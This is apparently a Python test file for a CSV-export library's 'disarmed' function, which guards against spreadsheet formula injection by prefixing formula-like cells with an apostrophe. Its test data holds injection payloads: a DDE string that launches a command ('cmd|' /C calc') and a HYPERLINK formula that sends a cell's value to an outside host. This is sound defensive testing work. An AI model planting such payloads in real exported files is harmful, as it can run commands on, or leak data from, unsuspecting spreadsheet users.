"""What a spreadsheet would run as a formula begins with an apostrophe, and nothing else does."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

import pincite
from pincite.converting.forms.registry import form_called
from pincite.markup.formulas import disarmed

RUN = [
    "=1+1",
    "@SUM(A1)",
    "+A1",
    "-2+3+cmd|' /C calc'!A0",
    " =1+1",
    "\t=1+1",
    "\uff1d1+1",
    '=HYPERLINK("http://a.b/?x="&A1,"Total")',
    "- Total",
    "+39-02-1234",
    "-5 apples",
]
PLAIN = [
    "", "-", "--", "...", "+", "-5", "+5", "- 5", "-1.234,56", "169.253-", "-5%", "-5 %", "-€5", "-5 €",
    "+1.5e-3", "+39 02 1234", "Total = 5", "a@b.c", "x-y", "(5)", "a; b", "smile ;-)",
]  # fmt: skip


@pytest.mark.parametrize("text", RUN)
def test_a_formula_begins_with_an_apostrophe(text):
    assert disarmed(text).lstrip() == "'" + text.lstrip()


@pytest.mark.parametrize("text", PLAIN)
def test_a_text_or_an_amount_stays_as_it_is(text):
    assert disarmed(text) == text


@pytest.mark.parametrize("sign", [";", "\t", "\n"])
def test_a_formula_is_none_where_cells_are_parted_by_another_sign(sign):
    assert disarmed(f"name{sign}=1+1{sign}-5{sign}@A1") == f"name{sign}'=1+1{sign}-5{sign}'@A1"


@pytest.mark.parametrize("text", [';"=a', "; =a", '"=a', ';""\t=a'])
def test_a_formula_is_none_behind_quotation_marks_and_blanks(text):
    assert disarmed(text) == text.replace("=", "'=")


def starts(text: str) -> bool:
    return text.lstrip().startswith(("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"))


@given(st.text("=+-@;,\t\n\r '\"1a\uff1d", max_size=12))
def test_no_cell_of_any_reading_is_a_formula_that_names_something(text):
    written = io.StringIO()
    csv.writer(written).writerow(["first", disarmed(text)])
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(written.getvalue(), newline=""), delimiter=delimiter):
            assert not any(starts(cell) and "a" in cell and "1" not in cell for cell in row[1:]), row


@given(st.text("=+-@; \t1a", max_size=12))
def test_what_is_disarmed_stays_so(text):
    assert disarmed(disarmed(text)) == disarmed(text)


def test_tables_are_disarmed_unless_formulas_are_asked_for():
    document = pincite.convert(b"a,b\n=1+1,-5\n", media_type="text/csv")
    (table,) = document.tables
    assert table.to_csv() == "a,b\r\n'=1+1,-5\r\n"
    assert table.to_csv(formulas=True) == "a,b\r\n=1+1,-5\r\n"
    assert "1,'=1+1,-5" in document.to_csv()
    assert "1,=1+1,-5" in document.to_csv(formulas=True)
    form = form_called("csv")
    assert list(form.pieces(document.tree, form.options())) == ["a,b\r\n'=1+1,-5\r\n"]
